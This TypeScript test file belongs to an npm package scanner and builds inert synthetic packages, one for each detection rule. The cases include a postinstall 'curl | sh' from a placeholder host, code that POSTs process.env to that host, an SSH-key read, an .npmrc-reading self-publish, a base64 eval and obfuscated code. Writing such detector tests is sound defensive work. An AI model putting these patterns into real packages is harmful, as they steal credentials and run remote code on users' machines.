// The synthetic cases of the rules over code: one inert package each, analysed and judged as an installed one is. The hosts are reserved
// (RFC 2606), and nothing of it is ever run.
import { analyse } from '../../behaviors/analyse.ts';
import { memoryTree } from '../../io/memory-tree.ts';
import type { Finding, RuleId } from '../../model/finding.ts';
import type { CodeFacts } from '../../rules/contract.ts';
import { judge } from '../../rules/registry.ts';
import { isObject, parseJson } from '../../text/json.ts';
import { documentsOf } from '../deep/documents.ts';
import { CANARY } from './cases.ts';

export interface CodeCase {
  readonly id: RuleId;
  readonly files: Readonly<Record<string, string>>;
  /** Files that are taken to have killed the parser. */
  readonly died?: CodeFacts['died'];
}

const FOLDER = `/project/node_modules/${CANARY}`;
const HOME = "require('os').homedir()";
const DROP = 'https://collect.example.com/selftest';

const SEND_ALL = 'fetch("' + DROP + '", { method: "POST", body: JSON.stringify(process.env) });\n';

const manifest = (more: Readonly<Record<string, unknown>> = {}) => ({ 'package.json': JSON.stringify({ name: CANARY, version: '1.0.0', ...more }) });
const code = (text: string, more: Readonly<Record<string, unknown>> = {}) => ({ ...manifest(more), 'index.js': text });
const encoded = (text: string) => Buffer.from(text).toString('base64');

/** One case a rule. */
export const CODE_CASES: readonly CodeCase[] = [
  { id: 'hidden-mail-recipient', files: code("const mailer = require('nodemailer').createTransport({});\nexports.send = (to, subject, text) => mailer.sendMail({ to, bcc: 'copy@collect.example.com', subject, text });\n") },
  { id: 'install-script-downloads-code', files: manifest({ scripts: { postinstall: `curl -s ${DROP} | sh` } }) },
  { id: 'credential-file-access', files: code(`const fs = require('fs');\nmodule.exports = () => fs.readFileSync(${HOME} + '/.ssh/id_rsa', 'utf8');\n`) },
  { id: 'encoded-payload-executed', files: code('eval(Buffer.from("' + encoded("require('child_process').exec('true')") + '", "base64").toString());\n') },
  { id: 'conditional-exfiltration', files: code('if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Etc/UTC") ' + SEND_ALL) },
  { id: 'environment-sent-away', files: code(SEND_ALL) },
  { id: 'build-file-runs-command', files: { ...manifest(), 'binding.gyp': '{"targets": [{"target_name": "a", "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}' } },
  { id: 'planted-git-dependency', files: manifest({ optionalDependencies: { [`${CANARY}-setup`]: `github:${CANARY}/setup#${'0'.repeat(40)}` } }) },
  { id: 'worm-file', files: { ...manifest({ scripts: { preinstall: 'node setup_bun.js' } }), 'setup_bun.js': '' } },
  { id: 'self-publishing-code', files: code(`const fs = require('fs');\nconst { execSync } = require('child_process');\nmodule.exports = () => { fs.readFileSync(${HOME} + '/.npmrc', 'utf8'); execSync('npm publish'); };\n`) },
  { id: 'agent-configuration-written', files: code(`require('fs').writeFileSync(${HOME} + '/.cursor/mcp.json', '{}');\n`) },
  { id: 'obfuscated-code', files: code(obfuscated()) },
  { id: 'parser-killing-source', files: manifest(), died: [{ path: 'index.js', how: 'crashed' }] },
];

/** What the rules say of the package of one case. */
export async function judgeCodeCase({ files, died = [] }: CodeCase): Promise<readonly Finding[]> {
  const manifestText = files['package.json'] ?? '{}';
  const parsed = parseJson(manifestText);
  const gyp = files['binding.gyp'];
  const sources = Object.entries(files).filter(([path]) => path.endsWith('.js')).map(([path, text]) => ({ path, text }));
  const { behaviors, folded } = analyse({ manifest: manifestText, ...(gyp === undefined ? {} : { bindingGyp: gyp }), files: sources });
  const tree = memoryTree(Object.fromEntries(Object.entries(files).map(([path, text]) => [`${FOLDER}/${path}`, text])));
  const documents = documentsOf(tree, FOLDER, parsed.ok && isObject(parsed.value) ? parsed.value : undefined, manifestText);
  const path = `node_modules/${CANARY}`;
  return judge({ kind: 'code', path, stablePath: path, package: { name: CANARY, version: '1.0.0' }, behaviors, folded, died, documents, known: () => [], patterns: [], campaign: () => undefined });
}

// A table of encoded texts that is rotated before it is read, as the usual obfuscators write it.
function obfuscated(): string {
  const table = ['log', 'warn', 'selftest', 'join', 'length', 'push', 'shift', 'canary', 'name', 'value', 'text', 'end'].map((word) => `'${encoded(word)}'`);
  return [
    `const _0x1a2b = [${table.join(', ')}];`,
    "(function (_0x3c4d, _0x5e6f) { const _0x7a8b = function (_0x9c0d) { while (--_0x9c0d) { _0x3c4d['push'](_0x3c4d['shift']()); } }; _0x7a8b(++_0x5e6f); }(_0x1a2b, 0x2));",
    'const _0x2b3c = function (_0x3c4d) { return atob(_0x1a2b[_0x3c4d - 0x0]); };',
    "console[_0x2b3c('0x0')](_0x2b3c('0x1'), _0x2b3c('0x2'));", '',
  ].join('\n');
}
